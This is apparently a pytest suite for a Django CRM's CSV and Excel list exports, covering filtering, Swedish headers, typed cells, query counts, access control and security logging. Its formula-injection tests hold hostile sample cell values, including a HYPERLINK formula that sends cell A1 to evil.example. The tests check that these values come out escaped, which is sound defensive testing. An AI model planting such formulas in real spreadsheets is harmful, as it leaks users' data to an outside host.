"""Exports of every list to CSV and Excel: exactly the filtered rows of every page, Swedish
headers, typed cells, formula injection made harmless, streamed, and the same few queries for
5 rows as for 50.

Generated from one declaration per list: rows that the filter and search select, rows that one
or the other leaves out, and the headers the user sees.
"""

import codecs
import csv
import datetime
import io
import logging
import re
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from urllib.parse import parse_qs, urlencode

import openpyxl
import pytest
from django.conf import settings
from django.http import FileResponse, StreamingHttpResponse
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.text import capfirst
from django_tables2.columns import DateColumn, DateTimeColumn

from contacts.tests.factories import ContactFactory
from contracts.models import Contract
from contracts.tests.factories import ContractFactory
from core.exports import cell_getter, export_response, safe_cell
from core.tests.factories import UserFactory
from deals.models import Deal
from deals.tests.factories import DealFactory
from leads.models import Lead
from leads.tests.factories import LeadFactory
from members.models import Member
from members.tests.factories import CountyFactory, MemberFactory
from notes.models import Note
from notes.tests.factories import NoteFactory
from services.models import Service
from services.tests.factories import ServiceFactory

from .html import page, table_rows, text

pytestmark = pytest.mark.django_db

EVERY_PAGE = 4  # session, user, 2 × permissions (test_queries)
PAGE_SIZE = 50
BEYOND_PAGE_ONE = PAGE_SIZE + 5


# --- Reading a download as the user's spreadsheet would -----------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)  # streamed, never built in memory
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body(response)
    assert data.startswith(codecs.BOM_UTF8)  # or Excel shows "SÃ¶derby"
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def xlsx_sheet(response):
    assert isinstance(response, FileResponse)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return openpyxl.load_workbook(io.BytesIO(body(response))).active


def xlsx_rows(response) -> list[list]:
    return [[cell.value for cell in row] for row in xlsx_sheet(response).iter_rows()]


def table_headers(response) -> list[str]:
    """The column headers of the page's list table, as the user reads them."""
    thead = re.search(r"<thead[^>]*>(.*?)</thead>", page(response), re.S).group(1)
    return [text(cell) for cell in re.findall(r"<th[^>]*>(.*?)</th>", thead, re.S)]


def swedish(label) -> str:
    with translation.override("sv"):
        return str(label)


def export(client, app, export_format, **query):
    return client.get(f"{reverse(f'{app}:list')}?{urlencode({**query, '_export': export_format})}")


# --- One declaration per list -------------------------------------------------------------------
# ``make(n)`` adds n rows the query selects, each with related records of its own (so a missing
# select_related shows as a growing query count), and returns their values in column ``key``;
# ``decoys()`` adds rows the filter or the search leaves out and returns theirs.
# Headers are checked against the page's own table headers, not spelled out here: the
# translation of a column name may change, the rule that the export has the page's may not.


@dataclass
class ListExport:
    app: str
    query: dict
    key: int  # the column whose values identify the rows
    make: Callable[[int], list[str]]
    decoys: Callable[[], list[str]]

    def __str__(self):
        return self.app


def make_members(n):
    return [
        MemberFactory(
            municipality=True,
            name=f"Söderby {i:03d}",
            status=Member.Status.MEMBER,
            member_since=datetime.date(2020, 1, 1),
            last_verified=datetime.date(2025, 5, 1),
            county=CountyFactory(code=f"{i % 21 + 1:02d}"),
        ).name
        for i in range(n)
    ]


def make_services(n):
    names = []
    for _ in range(n):
        service = ServiceFactory(kind=Service.Kind.PROJECT, started_on=datetime.date(2024, 1, 1))
        service.name = f"Söderby {service.pk}"
        service.save()
        ContractFactory(service=service)
        names.append(service.name)
    return names


def make_contracts(n):
    return [
        ContractFactory(
            title="Söderby avtal",
            value=Decimal("1234.50"),
            end_date=datetime.date(2099, 12, 31),
            parties=[MemberFactory(), MemberFactory()],
        ).number
        for _ in range(n)
    ]


def make_contacts(n):
    return [
        ContactFactory(
            first_name="Anna", last_name=f"Söderby{i:03d}", last_verified=datetime.date(2025, 1, 1)
        ).full_name
        for i in range(n)
    ]


def make_deals(n):
    return [
        DealFactory(
            title=f"Söderby {i:03d}",
            stage=Deal.Stage.OFFER,
            owner=UserFactory(),
            value=Decimal("100000"),
        ).title
        for i in range(n)
    ]


def make_leads(n):
    return [
        str(
            LeadFactory(
                first_name="Anna",
                last_name=f"Söderby{i:03d}",
                status=Lead.Status.CONTACTED,
                member=MemberFactory(),
                owner=UserFactory(),
            )
        )
        for i in range(n)
    ]


def make_notes(n):
    subjects = [
        lambda: {"member": MemberFactory()},
        lambda: {"member": None, "deal": DealFactory()},
        lambda: {"member": None, "lead": LeadFactory()},
        lambda: {"member": None, "contact": ContactFactory()},
        lambda: {"member": None, "contract": ContractFactory()},
    ]
    return [
        NoteFactory(text=f"Söderby {i:03d}", kind=Note.Kind.CALL, **subjects[i % 5]()).text
        for i in range(n)
    ]


LISTS = [
    ListExport(
        app="members",
        query={"status": "member", "q": "söderby"},
        key=0,
        make=make_members,
        decoys=lambda: [
            MemberFactory(name="Söderby utanför", status=Member.Status.NOT_MEMBER).name,
            MemberFactory(name="Norrby", status=Member.Status.MEMBER).name,
        ],
    ),
    ListExport(
        app="services",
        query={"kind": "project", "q": "söderby"},
        key=0,
        make=make_services,
        decoys=lambda: [
            ServiceFactory(name="Söderby tjänst", kind=Service.Kind.SERVICE).name,
            ServiceFactory(name="Norrby", kind=Service.Kind.PROJECT).name,
        ],
    ),
    ListExport(
        app="contracts",
        query={"status": "active", "q": "söderby"},
        key=0,
        make=make_contracts,
        decoys=lambda: [
            ContractFactory(title="Söderby utkast", status=Contract.Status.DRAFT).number,
            ContractFactory(title="Norrby", end_date=datetime.date(2099, 1, 1)).number,
        ],
    ),
    ListExport(
        app="contacts",
        query={"is_active": "true", "q": "söderby"},
        key=0,
        make=make_contacts,
        decoys=lambda: [
            ContactFactory(first_name="Bo", last_name="Söderby", is_active=False).full_name,
            ContactFactory(first_name="Bo", last_name="Norrby").full_name,
        ],
    ),
    ListExport(
        app="deals",
        query={"stage": "offer", "q": "söderby"},
        key=0,
        make=make_deals,
        decoys=lambda: [
            DealFactory(title="Söderby ny", stage=Deal.Stage.NEW).title,
            DealFactory(title="Norrby", stage=Deal.Stage.OFFER).title,
        ],
    ),
    ListExport(
        app="leads",
        query={"status": "contacted", "q": "söderby"},
        key=0,
        make=make_leads,
        decoys=lambda: [
            str(LeadFactory(first_name="Bo", last_name="Söderby", status=Lead.Status.NEW)),
            str(LeadFactory(first_name="Bo", last_name="Norrby", status=Lead.Status.CONTACTED)),
        ],
    ),
    ListExport(
        app="notes",
        query={"kind": "call", "q": "söderby"},
        key=2,
        make=make_notes,
        decoys=lambda: [
            NoteFactory(text="Söderby möte", kind=Note.Kind.MEETING).text,
            NoteFactory(text="Norrby", kind=Note.Kind.CALL).text,
        ],
    ),
]


# --- Content ------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", LISTS, ids=str)
def test_export_holds_exactly_the_filtered_rows_of_every_page(reader_client, case):
    expected = case.make(BEYOND_PAGE_ONE)
    left_out = case.decoys()
    # The page itself shows the first 50: the export must not stop there.
    page_response = reader_client.get(reverse(f"{case.app}:list"), case.query)
    assert len(table_rows(page_response)) == 50
    headers = table_headers(page_response)

    rows = csv_rows(export(reader_client, case.app, "csv", **case.query))
    sheet = xlsx_rows(export(reader_client, case.app, "xlsx", **case.query))

    # The list's own column headers, as the page shows them (in Swedish).
    assert rows[0] == sheet[0] == [capfirst(header) for header in headers]
    column = case.key
    assert sorted(row[column] for row in rows[1:]) == sorted(expected)
    assert sorted(row[column] for row in sheet[1:]) == sorted(expected)
    assert not set(left_out) & {row[column] for row in rows[1:] + sheet[1:]}


@pytest.mark.parametrize("case", LISTS, ids=str)
def test_export_values_are_what_the_table_itself_exports(reader_client, case):
    """The export reads most columns without django-tables2's per-cell machinery (its
    signature inspection is most of the time of a large export); the values must be the same,
    except that dates and times keep their type where django-tables2 writes ISO text, and an
    empty date is an empty cell where django-tables2 writes the "—" shown on the page."""
    case.make(3)
    case.decoys()  # with empty cells: no county, no owner, no value…
    table = reader_client.get(reverse(f"{case.app}:list")).context["table"]

    for row in table.paginated_rows:
        for column in table.columns.itervisible():
            value = cell_getter(table, column, table.data.model)(row.record)
            if isinstance(value, datetime.datetime):
                value = value.isoformat(sep=" ")
            elif isinstance(value, datetime.date):
                value = value.isoformat()
            elif value is None and isinstance(column.column, DateColumn | DateTimeColumn):
                value = column.default
            assert value == row.get_cell_value(column.name), column.name


def test_export_follows_the_sort_of_the_list(reader_client):
    for name, population in [("Anby", 300), ("Bnby", 100), ("Cnby", 200)]:
        MemberFactory(municipality=True, name=name, population=population)

    rows = csv_rows(export(reader_client, "members", "csv", sort="-population"))
    sheet = xlsx_rows(export(reader_client, "members", "xlsx", sort="-population"))

    assert [row[0] for row in rows[1:]] == ["Anby", "Cnby", "Bnby"]
    assert [row[0] for row in sheet[1:]] == ["Anby", "Cnby", "Bnby"]


def test_cells_are_typed_in_excel_and_swedish_in_csv(reader_client):
    """Numbers are numbers (a population can be summed), dates are dates, choices are their
    Swedish labels and related records their names."""
    member = MemberFactory(
        municipality=True,
        name="Kiruna",
        population=22_513,
        member_since=datetime.date(2019, 3, 1),
        county=CountyFactory(code="25", name="Norrbottens län"),
    )
    contract = ContractFactory(
        title="EGIL-avtal",
        value=Decimal("1234.50"),
        start_date=datetime.date(2025, 1, 1),
        end_date=datetime.date(2099, 12, 31),
    )
    municipality, not_member, active = (
        swedish(Member.OrgType.KOMMUN.label),
        swedish(Member.Status.NOT_MEMBER.label),
        swedish(Contract.Status.ACTIVE.label),
    )
    deal = DealFactory(title="Kiruna e-tjänster", value=Decimal("99000"))
    local_updated = timezone.localtime(deal.updated_at).replace(tzinfo=None)

    members_xlsx = xlsx_rows(export(reader_client, "members", "xlsx", q="kiruna"))
    members_csv = csv_rows(export(reader_client, "members", "csv", q="kiruna"))
    contract_xlsx = xlsx_rows(export(reader_client, "contracts", "xlsx", q="egil"))[1]
    contract_csv = csv_rows(export(reader_client, "contracts", "csv", q="egil"))[1]
    deal_xlsx = xlsx_rows(export(reader_client, "deals", "xlsx", q="kiruna"))[1]
    deal_csv = csv_rows(export(reader_client, "deals", "csv", q="kiruna"))[1]

    assert members_xlsx[1] == [
        "Kiruna",
        municipality,
        not_member,
        member.kommunkod,
        "Norrbottens län",
        22_513,
        datetime.datetime(2019, 3, 1),
        None,
    ]
    assert members_csv[1] == [
        "Kiruna", municipality, not_member, member.kommunkod, "Norrbottens län", "22513",
        "2019-03-01", "",
    ]  # fmt: skip
    assert contract_xlsx == [
        contract.number,
        "EGIL-avtal",
        contract.service.name,
        active,
        datetime.datetime(2025, 1, 1),
        datetime.datetime(2099, 12, 31),
        1234.5,
        1,
    ]
    assert contract_csv[3:] == [active, "2025-01-01", "2099-12-31", "1234,50", "1"]
    assert deal_xlsx[5] == 99000
    assert abs(deal_xlsx[8] - local_updated) < datetime.timedelta(seconds=1)
    assert deal_csv[5] == "99000,00"
    assert deal_csv[8] == f"{local_updated:%Y-%m-%d %H:%M}"


def test_download_names_and_sheet_are_swedish_and_dated(reader_client):
    today = timezone.localdate().isoformat()

    csv_response = export(reader_client, "members", "csv")
    xlsx_response = export(reader_client, "members", "xlsx")

    assert csv_response["Content-Disposition"] == f'attachment; filename="medlemmar-{today}.csv"'
    assert xlsx_response["Content-Disposition"] == (
        f'attachment; filename="medlemmar-{today}.xlsx"'
    )
    assert xlsx_sheet(xlsx_response).title == "Medlemmar"
    assert csv_response["Cache-Control"] == "no-store"  # personal data stays out of caches


def test_export_is_in_the_language_the_user_chose(reader_client):
    """The rows are written after the view returns; they keep the request's language."""
    MemberFactory(name="Kiruna", status=Member.Status.MEMBER)
    swedish_rows = csv_rows(export(reader_client, "members", "csv"))
    reader_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"

    rows = csv_rows(export(reader_client, "members", "csv"))

    assert swedish_rows[0][0] == "Namn"
    assert rows[0][:3] == ["Name", "Organisation type", "Membership status"]
    assert rows[1][:3] == ["Kiruna", "Company", "Member"]


# --- Formula injection --------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+1", "-2", "@SUM(A1:A9)"]


def test_formulas_in_text_come_out_as_harmless_text(reader_client):
    for name in DANGEROUS:
        ContactFactory(first_name=name, last_name="", phone="+46 8 123 45 67")
    ContactFactory(first_name="Anna", last_name="Svensson", phone="")

    rows = csv_rows(export(reader_client, "contacts", "csv", sort="email"))
    sheet = xlsx_sheet(export(reader_client, "contacts", "xlsx", sort="email"))

    # CSV has no types: a leading apostrophe makes the spreadsheet show the text as it is.
    assert [row[0] for row in rows[1:]] == [f"'{name}" for name in DANGEROUS] + ["Anna Svensson"]
    assert {row[4] for row in rows[1:5]} == {"'+46 8 123 45 67"}
    # XLSX has: the cell is text holding exactly the name, marked as typed with an apostrophe
    # so that editing it keeps it text.
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in names] == [*DANGEROUS, "Anna Svensson"]
    assert all(cell.data_type == "s" for cell in names)
    assert [cell.quotePrefix for cell in names] == [True] * 4 + [False]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anna-Karin", "Anna-Karin"),
        ("a=b", "a=b"),
        ("", ""),
        (-2, -2),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_does_not(reader):
    """What a report hands the writer: a number stored as a number is no formula."""
    request = RequestFactory().get("/reports/x/")
    request.user = reader
    rows = [["-2", -2, Decimal("-1234.50"), -0.5, datetime.date(2026, 1, 31), True]]
    headers = ["text", "int", "decimal", "float", "date", "bool"]

    def download(export_format):
        return export_response(
            request, export_format, name="befolkningsförändring", headers=headers, rows=rows
        )

    assert csv_rows(download("csv"))[1] == ["'-2", "-2", "-1234,50", "-0,5", "2026-01-31", "Ja"]
    cells = next(xlsx_sheet(download("xlsx")).iter_rows(min_row=2))
    assert [cell.value for cell in cells] == [
        "-2",
        -2,
        -1234.5,
        -0.5,
        datetime.datetime(2026, 1, 31),
        True,
    ]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "n", "d", "b"]


# --- Queries, streaming, access and the security log --------------------------------------------


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("case", LISTS, ids=str)
def test_export_queries_do_not_grow_with_the_rows(
    reader_client, django_assert_num_queries, case, export_format
):
    # the rows with everything their columns show, in one query read in chunks; the
    # security event recording the export
    expected = EVERY_PAGE + 2

    case.make(5)
    with django_assert_num_queries(expected):
        small = body(export(reader_client, case.app, export_format, **case.query))
    case.make(45)
    with django_assert_num_queries(expected):
        large = body(export(reader_client, case.app, export_format, **case.query))

    assert len(large) > len(small)


def test_export_buttons_carry_the_filters_search_and_sort_but_not_the_page(reader_client):
    make_members(BEYOND_PAGE_ONE)
    query = {"status": "member", "q": "söderby", "sort": "-name", "page": "2"}

    response = reader_client.get(reverse("members:list"), query)

    links = re.findall(r'href="\?([^"]*_export=[^"]*)"', page(response))
    assert len(links) == 2
    for link, export_format in zip(links, ["csv", "xlsx"], strict=True):
        params = parse_qs(link.replace("&amp;", "&"))
        assert params == {
            "status": ["member"],
            "q": ["söderby"],
            "sort": ["-name"],
            "_export": [export_format],
        }


def test_anonymous_is_sent_to_login(client):
    response = export(client, "contacts", "csv")

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_a_user_without_a_role_may_not_export(login):
    response = export(login(UserFactory()), "contacts", "csv")

    assert response.status_code == 403


def test_an_unknown_format_is_refused(reader_client):
    assert export(reader_client, "contacts", "pdf").status_code == 400


def test_export_is_recorded_in_the_security_log(reader_client, caplog):
    make_contacts(3)

    with caplog.at_level(logging.INFO, logger="crm.security"):
        body(export(reader_client, "contacts", "csv", q="söderby"))

    (record,) = [r for r in caplog.records if r.name == "crm.security"]
    message = record.getMessage()
    assert "user=lasare" in message
    assert "what=contacts.Contact" in message
    assert "format=csv" in message
    assert "rows=3" in message
    assert "q=s%C3%B6derby" in message
